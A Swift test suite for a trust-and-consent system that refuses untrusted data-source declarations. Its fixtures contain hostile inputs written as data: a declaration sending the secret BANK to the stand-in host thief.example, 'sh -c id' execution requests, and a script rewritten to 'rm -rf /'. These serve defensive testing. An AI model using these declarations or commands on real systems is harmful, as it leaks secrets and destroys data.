import Files
import Glibc
import TestSupport
import Testing
import TimeSeries

import DataSources

/// What a file would do if it were trusted: kinds of demands, and requests that lead to them.
@Suite("Files that are not trusted") struct ConsentTests {
  /// A folder with declarations and a program; a registry of them with some consent.
  private struct Place {
    var folder: String

    func write(_ text: String, to name: String, mode: mode_t = 0o644) throws {
      let path = folder + "/" + name
      try Disk.write(Array(text.utf8), to: path, temporaries: folder)
      chmod(path, mode)
    }

    init(_ folder: String) throws {
      self.folder = folder
      for name in ["sources", "own"] { try Disk.makeFolder(folder + "/" + name) }
      try write("#!/bin/sh\ntouch \(folder)/ran\necho 'date,v\n2020-01-01,1'\n", to: "tap", mode: 0o755)
      let head = "engram_source: 1\ntitle: t\nname: "
      let table = "format: {type: csv}\nrows: {date: date, value: v}\n"
      let secret = "request: {url: 'https://thief.example/x', secret: {env: BANK, query: q}}\n"
      try write(head + "cboe\nfirst_of: {SPX: ['exec:\(folder)/tap']}\n", to: "sources/cboe.yaml")
      try write(head + "fred-api\n" + secret + table, to: "sources/fred-api.yaml")
      try write(head + "runs\nfirst_of: {x: ['random:ar1', 'exec:\(folder)/tap']}\n", to: "sources/runs.yaml")
      try write(head + "deep\nfirst_of: {x: ['first:random:ar1,runs:x']}\n", to: "sources/deep.yaml")
      try write(head + "sends\n" + secret + table, to: "sources/sends.yaml")
      try write(head + "plain\nrequest: {url: 'https://a.example/'}\n" + table, to: "sources/plain.yaml")
      try write(
        head + "anyhost\nparameters: {h: {}}\nrequest: {url: 'https://{h}/x', secret: {env: BANK, header: K}}\n"
          + table,
        to: "own/anyhost.yaml")
      try write(head + "mine\n" + secret + table, to: "own/mine.yaml")
    }

    func registry(_ consent: Consent = Consent(), study: String? = nil) -> SourceRegistry {
      let (registry, warnings) = SourceRegistry.loading(
        folders: [folder + "/own"], found: folder + "/sources", consent: consent, programs: [])
      #expect(warnings == [])
      let asker = study.map { Asker($0, sha256: sha256Text(of: Array("study".utf8)), consent) }
      return SourceRegistry(registry.adapters, asker: asker)
    }

    func trusting(_ names: String...) throws -> Consent {
      var consent = Consent()
      for name in names {
        let bytes = try #require(try Disk.read(folder + "/" + name, limit: 1 << 20))
        consent.trusted.add(folder + "/" + name, sha256: sha256Text(of: bytes))
      }
      return consent
    }
  }

  private func refusal(_ request: String, _ registry: SourceRegistry) -> String? {
    message { _ = try registry.source(request) }
  }

  @Test(
    "of the folder neither run, nor send, nor replace; what would have happened is said",
    arguments: [
      ("cboe:SPX", "answer in place of the built-in source 'cboe', and run the program 'FOLDER/tap'"),
      ("fred-api:GDP", "answer in place of the built-in source 'fred-api', and send the secret BANK to thief.example"),
      ("runs:x", "it would run the program 'FOLDER/tap'"), ("deep:x", "it would run the program 'FOLDER/tap'"),
      ("sends:all", "it would send the secret BANK to thief.example"),
      ("y=first:random:ar1,runs:x", "it would run the program 'FOLDER/tap'"),
    ])
  func refused(_ request: String, _ words: String) async throws {
    try await withTemporaryFolder { folder in
      let place = try Place(folder)
      let found = try #require(refusal(request, place.registry()))
      #expect(found.contains(words.replacing("FOLDER", with: folder)), "\(found)")
      #expect(found.contains("engram trust \(folder)/sources/"), "\(found)")
      // The same of a sweep, which keeps the answers of sources.
      let caching = place.registry().changing { adapter in adapter.changing { _, source in source } }
      #expect(refusal(request, caching) == found)
    }
  }

  @Test("of the folder may ask for documents; the user's own declarations may do everything")
  func allowed() async throws {
    try await withTemporaryFolder { folder in
      let registry = try Place(folder).registry()
      for request in ["plain:all", "mine:all", "anyhost:a.example", "exec:\(folder)/tap", "ecb:USD"] {
        #expect(refusal(request, registry) == nil)
      }
    }
  }

  @Test(
    "do what they were allowed once, by option",
    arguments: [("runs:x", true, ""), ("deep:x", true, ""), ("sends:all", false, "BANK")])
  func options(_ request: String, _ programs: Bool, _ secret: String) async throws {
    try await withTemporaryFolder { folder in
      let place = try Place(folder)
      #expect(refusal(request, place.registry(Consent(allowsPrograms: programs, secrets: [secret]))) == nil)
      #expect(refusal(request, place.registry(Consent(allowsPrograms: !programs, secrets: ["OTHER"]))) != nil)
      // Neither lets a file replace a source.
      #expect(refusal("cboe:SPX", place.registry(Consent(allowsPrograms: true, secrets: ["BANK"]))) != nil)
    }
  }

  @Test(
    "as studies: programs, secrets of programs, and hosts of secrets",
    arguments: [
      ("exec:FOLDER/tap", "run the program 'FOLDER/tap'"),
      ("exec:sh -c id?secret=BANK", "run the program 'sh -c id' with the secret BANK"),
      ("z=first:random:ar1,exec:sh", "run the program 'sh'"),
      ("anyhost:thief.example", "send the secret BANK to thief.example"),
    ])
  func study(_ request: String, _ words: String) async throws {
    try await withTemporaryFolder { folder in
      let place = try Place(folder)
      let request = request.replacing("FOLDER", with: folder)
      let found = try #require(refusal(request, place.registry(study: folder + "/study.yaml")))
      #expect(found.contains(words.replacing("FOLDER", with: folder)), "\(found)")
      #expect(refusal("fred-api:GDP", place.registry(study: "s.yaml"))?.contains("built-in") == true)
      #expect(refusal("mine:all", place.registry(study: "s.yaml")) == nil)
      try place.write("study", to: "study.yaml")
      let trusting = try place.trusting("study.yaml", "tap")
      #expect(refusal(request, place.registry(trusting, study: folder + "/study.yaml")) == nil)
      // Trust belongs to a place.
      #expect(refusal(request, place.registry(trusting, study: folder + "/copy.yaml")) != nil)
    }
  }

  @Test("are trusted with their content, and so are the programs that they run")
  func changed() async throws {
    try await withTemporaryFolder { folder in
      let place = try Place(folder)
      let consent = try place.trusting("sources/runs.yaml", "sources/cboe.yaml", "tap")
      let series = try await place.registry(consent).source("cboe:SPX").series(in: SourceEnvironment())
      #expect(
        series.first?.origin.notes.contains(
          "\(folder)/sources/cboe.yaml is used in place of the built-in source 'cboe'") == true)
      #expect(Disk.look(at: folder + "/ran") != nil)
      #expect(refusal("runs:x", place.registry(consent)) == nil)
      try place.write("#!/bin/sh\nrm -rf /\n", to: "tap", mode: 0o755)
      #expect(refusal("runs:x", place.registry(consent))?.contains("not the program that was trusted") == true)
      let other = "engram_source: 1\nname: cboe\ntitle: t\nfirst_of: {SPX: ['random:ar1']}\n"
      try place.write(other, to: "sources/cboe.yaml")
      #expect(refusal("cboe:SPX", place.registry(consent))?.contains("is not trusted") == true)
    }
  }

  @Test("are listed in the form of sha256sum, once for each path")
  func list() async throws {
    try await withTemporaryFolder { folder in
      var trusted = TrustedFiles()
      let (one, two) = (sha256Text(of: [1]), sha256Text(of: [2]))
      trusted.add(folder + "/a", sha256: one)
      trusted.add(folder + "/a", sha256: two)
      trusted.add(folder + "/b\nc", sha256: one)
      #expect(trusted.text == "\(two)  \(folder)/a\n\(one)  \(folder)/b\\x0Ac\n")
      try trusted.write(to: folder + "/config/trusted")
      #expect(try TrustedFiles(reading: folder + "/config/trusted") == trusted)
      #expect(trusted.remove(folder + "/a") && !trusted.remove(folder + "/a"))
      #expect(!trusted.hold(folder + "/a", sha256: two))
    }
  }
}
